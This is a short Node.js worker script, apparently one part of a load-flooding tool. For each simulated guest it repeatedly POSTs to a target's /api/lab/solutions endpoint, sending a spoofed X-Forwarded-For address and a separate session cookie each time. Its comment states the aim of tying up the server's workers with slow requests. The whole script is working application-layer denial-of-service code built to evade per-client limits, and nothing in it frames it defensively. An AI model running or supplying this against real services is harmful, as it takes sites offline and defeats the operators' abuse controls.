// `question-flood.mjs URL`: people who ask the lab for what takes ten seconds, again and again, until their parent is gone. Their parent names them.
import { setTimeout as wait } from 'node:timers/promises';

const [url] = process.argv.slice(2);
/** Who was refused asks again after so long: it is the workers that are flooded, not the pages. */
const AGAIN_MS = 2_000;
const HEADERS = { 'Content-Type': 'application/json', Origin: url, Connection: 'close' };

async function ask({ address, token }, body) {
  const headers = { ...HEADERS, 'X-Forwarded-For': address, Cookie: `seawall-guest=${token}` };
  for (;;) {
    const answer = await fetch(`${url}/api/lab/solutions`, { method: 'POST', headers, body });
    await answer.text();
    await wait(AGAIN_MS);
  }
}

process.once('message', ({ people, body }) => {
  for (const person of people) void ask(person, body);
});
process.on('disconnect', () => process.exit());
